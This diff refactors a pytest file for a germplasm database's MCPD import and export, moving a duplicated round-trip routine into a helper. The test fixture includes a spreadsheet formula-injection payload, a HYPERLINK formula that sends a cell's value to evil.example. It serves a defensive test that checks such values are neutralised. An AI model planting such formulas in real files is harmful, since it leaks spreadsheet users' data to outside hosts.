@@ -48,18 +48,23 @@ def test_init_is_safe_to_run_again(fresh_db):
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
 def test_export_import_export_gives_the_same_rows(tmp_path, fresh_db, fmt):
-    source = write_rows(tmp_path / "source.csv", [FULL_ROW, CHILD_ROW])
-    germplasm(fresh_db, "import", "mcpd", source)
-    first, second = tmp_path / f"first.{fmt}", tmp_path / f"second.{fmt}"
-    germplasm(fresh_db, "export", "mcpd", first)
-    with fresh_database(tmp_path) as empty:
-        germplasm(empty, "init")
-        germplasm(empty, "import", "mcpd", first)
-        germplasm(empty, "export", "mcpd", second)
+    first, second = round_trip(tmp_path, fresh_db, fmt, [FULL_ROW, CHILD_ROW])
     assert read(first) == read(second)
     exported = read(first)
     assert exported[0] == FULL_ROW | {"LATITUDE": "310430N"}
     assert exported[1]["ACQDATE"] == "20210512" and exported[1]["HISTORIC"] == "Y"
+
+
+def round_trip(tmp_path, url, fmt, rows):
+    """Import rows, export them (first), import that into an empty database, export (second)."""
+    germplasm(url, "import", "mcpd", write_rows(tmp_path / "source.csv", rows))
+    first, second = tmp_path / f"first.{fmt}", tmp_path / f"second.{fmt}"
+    germplasm(url, "export", "mcpd", first)
+    with fresh_database(tmp_path) as empty:
+        germplasm(empty, "init")
+        germplasm(empty, "import", "mcpd", first)
+        germplasm(empty, "export", "mcpd", second)
+    return first, second
 
 
 def read(path):
@@ -97,14 +102,7 @@ FORMULAS = {"ACCENAME": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
 def test_formula_like_values_are_inert_and_survive_a_round_trip(tmp_path, fresh_db, fmt):
-    source = write_rows(tmp_path / "source.csv", [FULL_ROW | FORMULAS])
-    germplasm(fresh_db, "import", "mcpd", source)
-    first, second = tmp_path / f"first.{fmt}", tmp_path / f"second.{fmt}"
-    germplasm(fresh_db, "export", "mcpd", first)
-    with fresh_database(tmp_path) as empty:
-        germplasm(empty, "init")
-        germplasm(empty, "import", "mcpd", first)
-        germplasm(empty, "export", "mcpd", second)
+    first, second = round_trip(tmp_path, fresh_db, fmt, [FULL_ROW | FORMULAS])
     assert read(first) == read(second)
     if fmt == "csv":  # OWASP: a leading apostrophe, removed again by the importer
         raw = list(csv.DictReader(first.open(encoding="utf-8")))[0]
